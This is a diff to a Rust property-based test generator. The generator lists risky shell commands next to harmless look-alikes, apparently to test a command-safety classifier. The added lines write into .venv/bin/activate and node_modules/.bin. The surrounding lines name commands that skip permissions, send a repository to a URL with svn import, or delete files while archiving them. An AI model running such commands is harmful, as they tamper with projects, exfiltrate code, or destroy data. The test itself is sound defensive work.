@@ -468,7 +468,8 @@ fn option_glob() -> impl Strategy<Value = String> {
 /// (`claude --dangerously-skip-permissions`, `claude mcp add`), code given as a
 /// `data:` URL where a file of code goes (`node --import data:…`), a browser's
 /// program prefix (`--renderer-cmd-prefix`), another VCS sending the project to a
-/// URL (`svn import . URL`)
+/// URL (`svn import . URL`), a write into the project's environments
+/// (`.venv/bin/activate`, `node_modules/.bin`)
 /// — each with a look-alike
 /// that is harmless, written in any of the option spellings the programs accept.
 fn catalogue_class() -> impl Strategy<Value = String> {
@@ -508,6 +509,10 @@ fn catalogue_class() -> impl Strategy<Value = String> {
         "xdg-open README.md",
         "svn import . https://x.example/svn/r -m x",
         "svn commit -m x",
+        "echo x >> .venv/bin/activate",
+        "cat .venv/bin/activate",
+        "echo x > node_modules/.bin/jest",
+        "ls node_modules/.bin",
         "tar --remove-files -cf x.tar src",
         "zip -rm x.zip src",
         "zip -r x.zip src",
